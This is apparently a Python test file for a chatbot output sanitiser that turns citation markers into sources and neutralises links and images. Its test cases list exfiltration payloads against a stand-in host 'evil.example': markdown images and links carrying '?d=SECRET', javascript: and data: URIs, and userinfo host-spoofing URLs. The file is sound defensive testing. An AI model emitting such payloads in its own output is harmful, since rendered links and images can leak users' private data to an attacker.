"""From the model's words to what a visitor reads: numbers become sources, foreign addresses become words."""

import re
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chatbot.ai.addresses import Addresses, host_of
from chatbot.ai.citations import Reader, read


def ours() -> Addresses:
    addresses = Addresses(["acme.example"])
    addresses.learn("Write to help@acme.example or see https://docs.acme.example/returns?lang=en.")
    return addresses


@pytest.mark.parametrize(
    ("written", "shown", "cited"),
    [
        ("Thirty days [1]. And free [2].", "Thirty days. And free.", [1, 2]),
        ("Twice [2][1], and again [2].", "Twice, and again.", [2, 1]),
        ("Both [1, 2] hold.", "Both hold.", [1, 2]),
        ("Made up [9] and null [0].", "Made up and null.", []),
        ("One of each [1; 7].", "One of each.", [1]),
        ("A number with an address [1](https://evil.example/x).", "A number with an address.", [1]),
        ("The size [medium] fits.", "The size [medium] fits.", []),
        ("Cut in the middle [1", "Cut in the middle", []),
        ("Cut at the bracket [", "Cut at the bracket", []),
        ("In 1987 and a[b", "In 1987 and a[b", []),
        ("First.\n\n[1] Second.", "First.\n\n Second.", [1]),
        ("  Leading space", "Leading space", []),
    ],
)
def test_numbers_become_sources_and_the_rest_is_dropped(written: str, shown: str, cited: list[int]) -> None:
    assert read(written, ours(), given=2) == (shown, cited)


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("[here](https://acme.example/a)", "[here](https://acme.example/a)"),
        ('[here](https://acme.example/a "title")', "[here](https://acme.example/a)"),
        ("See https://docs.acme.example/returns, please.", "See https://docs.acme.example/returns, please."),
        ("[mail](mailto:help@acme.example)", "[mail](mailto:help@acme.example)"),
        ("[here](https://evil.example/?d=SECRET) now", "here now"),
        ("[mail](mailto:thief@evil.example)", "mail"),
        ("[run](javascript:alert(1))", "run"),
        ("[run](data:text/html,x)", "run"),
        ("[here](//evil.example/x)", "here"),
        ("[here](/local)", "here"),
        ("[here](<https://evil.example/x>)", "here"),
        ("![SECRET](https://evil.example/?d=1) x", "SECRET x"),
        ("![alt](https://acme.example/logo.png)", "alt"),
        ("![1](https://evil.example/1.png)", "1"),
        ("See https://evil.example/x?d=SECRET.", "See evil.example."),
        ("See HTTPS://EVIL.example/x", "See evil.example"),
        ("<https://evil.example/SECRET>", "< evil.example>"),
        ("<https:evil.example/SECRET>", "< >"),
        ("<tel:SECRET>", "< tel:SECRET>"),
        ("www.evil.example/SECRET", "www.evil.example"),
        ("<img src=https://evil.example/?d=SECRET>", "< img src=evil.example>"),
        ("https://acme.example@evil.example/SECRET", "evil.example"),
        ("https://acme.example:pw@evil.example/SECRET", "evil.example"),
        ("[x](https://acme.example\\@evil.example/)", "x"),
        ("https://acme.example.evil.example/", "acme.example.evil.example"),
        ("[id]: https://evil.example/x", "id: evil.example"),
        ("[![alt](https://a.example/1)](https://b.example/2)", "[alt] (b.example)"),
        ("ftp://evil.example/SECRET", "evil.example"),
        ("[https://evil.example/SECRET](https://acme.example/)", "[evil.example](https://acme.example/)"),
        ("[x](//evil.example/<y)", "[x] (//evil.example/< y)"),
        ("ht[1]tps://evil.example/SECRET", "evil.example"),
        ("ht![tps](x)://evil.example/SECRET", "evil.example"),
    ],
)
def test_a_foreign_address_becomes_words_and_an_image_never_stays(written: str, shown: str) -> None:
    assert read(written, ours(), given=0) == (shown, [])


def test_an_unfinished_marker_never_flashes() -> None:
    reader = Reader(ours(), given=3)
    pieces = [reader.feed(piece) for piece in ["Thirty", " days", " [", "1", "]", ". Free", " [2", ", 3]", " too."]]
    assert not any("[" in piece or "]" in piece for piece in pieces)
    assert "".join(pieces) + reader.finish() == "Thirty days. Free too."
    assert reader.brackets.cited == [1, 2, 3]


def test_plain_words_are_not_held_back() -> None:
    reader = Reader(ours())
    assert reader.feed("Thirty days") == "Thirty days"


def test_what_is_found_later_can_be_cited_from_then_on() -> None:
    reader = Reader(ours(), given=1)
    first = reader.feed("A [2] b")
    reader.brackets.given = 2
    assert first + reader.feed(" c [2].") + reader.finish() == "A b c."
    assert reader.brackets.cited == [2]


SIGNS = [
    "[",
    "]",
    "(",
    ")",
    "!",
    "<",
    ">",
    ":",
    "/",
    "\\",
    '"',
    "'",
    " ",
    "\n",
    "\t",
    "#",
    "@",
    "`",
    "*",
    "_",
    ".",
    ",",
]
STARTS = ["http://", "https://", "https:", "//", "www.", "javascript:", "mailto:", "ht", "tp", "h", "w", "&#91;"]
WORDS = ["evil.example", "acme.example", "e.vil", "a", "1", "2", "x?d=SECRET", "[1]", "](", "]:", "![", "][", "\u200b"]
HOSTILE = st.lists(st.sampled_from([*SIGNS, *STARTS, *WORDS]), max_size=40).map("".join)


@given(HOSTILE, st.lists(st.integers(1, 5), min_size=1, max_size=60))
def test_the_stream_and_the_whole_are_the_same_text(text: str, sizes: list[int]) -> None:
    reader, shown, at = Reader(ours(), given=2), "", 0
    while at < len(text):
        size = sizes[at % len(sizes)]
        shown += reader.feed(text[at : at + size])
        at += size
    shown += reader.finish()
    assert (shown, reader.brackets.cited) == read(text, ours(), given=2)


@given(HOSTILE)
def test_no_text_renders_as_an_image_or_a_foreign_link(text: str) -> None:
    shown, _ = read(text, ours(), given=2)
    html = MarkdownIt("js-default", {"html": False, "linkify": False}).render(shown)
    assert "<img" not in html
    for target in re.findall(r'href="([^"]*)"', html):
        parts = urlsplit(target)
        assert (parts.scheme, parts.hostname) in {
            ("http", "acme.example"),
            ("https", "acme.example"),
            ("https", "docs.acme.example"),
            ("http", "docs.acme.example"),
        }, (text, shown, target)


@given(HOSTILE)
def test_no_secret_leaves_in_an_address(text: str) -> None:
    shown, _ = read(text, ours(), given=2)
    for found in re.findall(r"(?:https?://|www\.)[^\s<>\"'\[\]]+", shown, re.IGNORECASE):
        assert "SECRET" not in found or host_of(found) in {"acme.example", "docs.acme.example"}, (text, shown)
